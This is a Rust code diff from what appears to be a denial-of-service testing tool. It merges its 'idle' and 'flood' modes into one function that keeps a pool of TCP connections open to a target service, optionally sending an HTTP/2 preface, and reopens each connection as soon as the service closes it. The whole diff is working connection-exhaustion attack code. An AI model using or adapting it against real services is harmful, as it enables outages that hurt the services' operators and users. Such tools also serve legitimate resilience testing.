@@ -20,39 +20,38 @@ const SLOW: usize = 64;
 /// How long a slow connection takes for each byte.
 const BYTE: Duration = Duration::from_millis(200);
 
-/// How long to wait before connections that have been closed are replaced.
-const REPLACE: Duration = Duration::from_millis(20);
+/// How long to wait before connections that have been closed are replaced: hardly at all for those that are to be many, and
+/// longer for those that are to be idle.
+const AT_ONCE: Duration = Duration::from_millis(20);
+const LATER: Duration = Duration::from_secs(1);
 
 /// Connections that are opened and then left alone.
 pub(super) fn idle(attacker: Attacker) -> io::Result<()> {
     let mut opening = PREFACE.to_vec();
     frame(&mut opening, frame_type::SETTINGS, 0, 0, &[]);
-    let mut sockets = Vec::new();
-    loop {
-        while sockets.len() < IDLE {
-            let mut socket = TcpStream::connect(attacker.target)?;
-            socket.write_all(&opening)?;
-            progress::connected();
-            progress::sent(opening.len());
-            socket.set_nonblocking(true)?;
-            sockets.push(socket);
-        }
-        thread::sleep(REPLACE);
-        sockets.retain(is_open);
-    }
+    keep(attacker, &opening, LATER)
 }
 
 /// Connections that send nothing, replaced as soon as the service closes them.
 pub(super) fn flood(attacker: Attacker) -> io::Result<()> {
+    keep(attacker, &[], AT_ONCE)
+}
+
+/// Opens connections, and replaces those that the service closes after a while.
+fn keep(attacker: Attacker, opening: &[u8], after: Duration) -> io::Result<()> {
     let mut sockets = Vec::new();
     loop {
         while sockets.len() < IDLE {
-            let socket = TcpStream::connect(attacker.target)?;
+            let mut socket = TcpStream::connect(attacker.target)?;
             progress::connected();
+            // The service may have closed it already.
+            if socket.write_all(opening).is_ok() {
+                progress::sent(opening.len());
+            }
             socket.set_nonblocking(true)?;
             sockets.push(socket);
         }
-        thread::sleep(REPLACE);
+        thread::sleep(after);
         sockets.retain(is_open);
     }
 }
